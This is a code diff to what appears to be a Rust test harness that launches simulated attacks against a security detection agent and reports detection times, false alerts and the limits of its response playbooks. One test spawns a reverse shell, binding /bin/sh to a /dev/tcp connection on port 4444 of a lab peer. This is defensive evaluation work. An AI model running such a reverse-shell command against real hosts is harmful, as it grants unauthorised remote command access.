@@ -622,9 +622,8 @@ fn attacks(lab: &Lab) -> Vec<Row> {
     ));
 
     // Reverse shell: a shell whose stdin and stdout are a TCP connection.
-    let shell_dst = format!("{peer}:4444");
-    let mut listener = topo.spawn_raw(&b, &["tcp-server", &shell_dst, "10"]);
-    read_json_line(&mut listener);
+    // The listener echoes lines; the shell writes none, so nothing loops.
+    let _listener = topo.spawn(&b, &["serve", "0.0.0.0:4444"]);
     let start = Utc::now();
     quiet(lab.host(
         "bash",
@@ -633,7 +632,6 @@ fn attacks(lab: &Lab) -> Vec<Row> {
             &format!("exec 3<>/dev/tcp/{peer}/4444; /bin/sh -c 'sleep 1' <&3 >&3 2>&3"),
         ],
     ));
-    let _ = listener.wait();
     rows.push(judge(
         agent,
         "reverse shell (sh on a TCP socket)",
@@ -673,7 +671,7 @@ fn attacks(lab: &Lab) -> Vec<Row> {
 }
 
 fn fmt_s(s: Option<f64>) -> String {
-    s.map(|s| format!("{s:.1} s")).unwrap_or_else(|| "—".into())
+    s.map(|s| format!("{s:.2} s")).unwrap_or_else(|| "—".into())
 }
 
 fn sh(cmd: &str) -> String {
@@ -690,9 +688,33 @@ struct Report {
     date: String,
     jobs: BTreeMap<&'static str, u64>,
     false_alerts: Vec<Value>,
-    evidence_only: usize,
+    evidence_only: Vec<Value>,
     rows: Vec<Row>,
 }
+
+/// What the figures do not show; true of the repository as this run found it.
+const LIMITS: &str = "
+## Documented limits
+
+- Time to alert is bounded by the flow timers for what is judged on a closed or
+  idle flow: the DNS-shaped UDP is judged when its flow goes idle
+  (`flows.udp_idle_timeout_s`, default 30 s); the chunked upload and the beacons
+  when their flows close and the detector next scores.
+- The beacon figures use the short window of the detection tests (20 s,
+  8 connections); with the default window a beacon is judged over hours, so
+  its time to alert in production is of that order, not seconds.
+- Response coverage of the shipped playbooks: scans (T1046), beacons (T1071),
+  reverse shells (T1059.004, critical) and hidden executables (T1564.001,
+  medium) open no incident. `data_exfiltration_block` lists T1030 but requires
+  `min_severity: high`, and the exfil detector raises T1030 at medium, so
+  equal-size chunks never trigger it. `malware_containment` names T1059 in its
+  header comment but not in its trigger.
+- The benign workload is a compressed imitation (minutes, not days): it cannot
+  show false alerts that need long baselines. The anomaly detector learns for
+  up to `detect.anomaly.max_learn_s` (3600 s); the lateral detector reports new
+  peers only after `detect.lateral.learn_s` (600 s), which a default 4-minute
+  run does not reach (`--minutes 12` crosses it).
+";
 
 fn markdown(r: &Report) -> String {
     let detected = r.rows.iter().filter(|x| x.detected).count();
@@ -777,8 +799,18 @@ fn markdown(r: &Report) -> String {
         "False alerts (severity low or above, distinct ids) during the benign phase: \
          **{}**. Evidence-only records (severity info) are not alerts and not counted: {}.\n\n",
         r.false_alerts.len(),
-        r.evidence_only
+        r.evidence_only.len()
     ));
+    for a in &r.evidence_only {
+        out.push_str(&format!(
+            "- info, {}: {}\n",
+            a["detector"].as_str().unwrap_or("?"),
+            a["summary"].as_str().unwrap_or("")
+        ));
+    }
+    if !r.evidence_only.is_empty() {
+        out.push('\n');
+    }
     if !by.is_empty() {
         out.push_str("| Detector | Count | Summaries |\n|---|---|---|\n");
         for (d, list) in &by {
@@ -801,6 +833,7 @@ fn markdown(r: &Report) -> String {
         "The machine is shared: the agent's process probes see every process on the host, \
          not only the workload's, so a process alert may come from another user's work.\n",
     );
+    out.push_str(LIMITS);
     out
 }
 
@@ -867,13 +900,13 @@ fn main() {
     let benign_end = Utc::now();
     let mut ids = HashSet::new();
     let mut false_alerts = Vec::new();
-    let mut evidence_only = 0;
+    let mut evidence_only = Vec::new();
     for (seen, a) in lab.tail.alerts() {
         if seen < benign_start || seen > benign_end || !ids.insert(a["id"].to_string()) {
             continue;
         }
         if a["severity"] == "info" {
-            evidence_only += 1;
+            evidence_only.push(a);
         } else {
             false_alerts.push(a);
         }
